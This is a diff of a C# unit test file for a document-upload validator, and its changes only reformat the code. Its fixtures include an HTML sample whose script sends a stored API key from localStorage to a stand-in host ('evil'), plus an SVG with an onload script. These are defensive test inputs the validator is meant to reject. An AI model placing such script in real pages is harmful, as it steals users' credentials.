@@ -11,7 +11,8 @@ namespace Workflows.Functions.Tests.Documents;
 /// </summary>
 public sealed class DocumentTypesTests
 {
-    private static readonly byte[] Html = Encoding.UTF8.GetBytes("<html><script>fetch('//evil/?k='+localStorage['workflows.apiKey'])</script></html>");
+    private static readonly byte[] Html =
+        Encoding.UTF8.GetBytes("<html><script>fetch('//evil/?k='+localStorage['workflows.apiKey'])</script></html>");
     private static readonly byte[] Svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
     private static readonly byte[] Pdf = Encoding.UTF8.GetBytes("%PDF-1.7\n1 0 obj << >> endobj\n%%EOF");
     private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D];
@@ -82,14 +83,20 @@ public sealed class DocumentTypesTests
 
         Assert.Null(package);
         Assert.Equal(
-            [("package/说明.html", DocumentTypes.TypeRule), ("package/logo.svg", DocumentTypes.TypeRule), ("package/lease.pdf", DocumentTypes.ContentRule)],
+            [
+                ("package/说明.html", DocumentTypes.TypeRule),
+                ("package/logo.svg", DocumentTypes.TypeRule),
+                ("package/lease.pdf", DocumentTypes.ContentRule),
+            ],
             errors.Select(e => (e.Field, e.Rule)));
     }
 
     [Fact]
     public void RegistrationPackage_PdfAttachment_StoredAsPdfWhateverTheZipSays()
     {
-        var (package, errors) = RegistrationPackageReader.Read("p.zip", Zip(("application.json", "{}"u8.ToArray()), ("docs/章程.pdf", Pdf)), new Workflows.Functions.Hosting.LimitsOptions());
+        var zip = Zip(("application.json", "{}"u8.ToArray()), ("docs/章程.pdf", Pdf));
+
+        var (package, errors) = RegistrationPackageReader.Read("p.zip", zip, new Workflows.Functions.Hosting.LimitsOptions());
 
         Assert.Empty(errors);
         Assert.Equal(("docs_章程.pdf", "application/pdf"), (package!.Attachments[0].Name, package.Attachments[0].ContentType));
